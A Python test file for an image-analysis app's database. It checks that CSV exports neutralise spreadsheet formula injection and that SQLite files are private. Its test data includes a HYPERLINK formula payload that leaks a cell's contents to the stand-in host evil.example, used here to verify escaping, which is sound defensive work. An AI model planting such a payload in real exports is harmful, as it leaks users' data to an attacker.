"""What leaves the database for other eyes: CSV cells, and who may read the database file."""
import csv
import io
import os
import stat

import numpy as np
from sqlalchemy.orm import Session

from db import exporting
from db.engine import make_engine, upgrade
from db.masks import save_mask_version
from db.projects import create_project, register_image

NAME = '=HYPERLINK("http://evil.example/?leak="&A2,"cells.png")'


def test_counts_csv_escapes_a_formula_file_name_and_keeps_numbers(engine, storage):
    rgb = np.zeros((20, 30, 3), np.uint8)
    mask = np.zeros((20, 30), bool)
    mask[2:6, 2:6] = mask[10:15, 20:26] = True
    with Session(engine) as s, s.begin():
        project = create_project(s, "P", stain="red")
        image = register_image(s, storage, project.id, rgb, name=NAME,
                               metadata={"animal": "@mouse", "region": "-CA1"}).image
        save_mask_version(s, storage, image.id, mask, based_on=None, source="import",
                          author_id=None)
        image_id = image.id
    with Session(engine) as s:
        text = exporting.export_counts(s, "P")
    (row,) = list(csv.DictReader(io.StringIO(text)))
    assert row["image"] == "'" + NAME
    assert (row["animal"], row["region"]) == ("'@mouse", "'-CA1")
    assert row["count"] == "2" and row["image_id"] == str(image_id)


def _mode(path):
    return stat.S_IMODE(os.stat(path).st_mode)


def test_sqlite_database_and_its_wal_and_shm_are_private(tmp_path):
    old = os.umask(0o022)
    try:
        engine = make_engine(f"sqlite:///{tmp_path / 'new.db'}")
        upgrade(engine)
        with engine.connect() as conn:  # WAL and shared memory exist while a connection is open
            conn.exec_driver_sql("SELECT count(*) FROM users").scalar()
            for name in ("new.db", "new.db-wal", "new.db-shm"):
                assert _mode(tmp_path / name) == 0o600, name
        engine.dispose()
        # An installation made before this: its files are narrowed when the app next starts.
        older = tmp_path / "old.db"
        older.touch(mode=0o644)
        (tmp_path / "old.db-wal").touch(mode=0o644)
        make_engine(f"sqlite:///{older}").dispose()
        assert _mode(older) == 0o600 and _mode(tmp_path / "old.db-wal") == 0o600
    finally:
        os.umask(old)
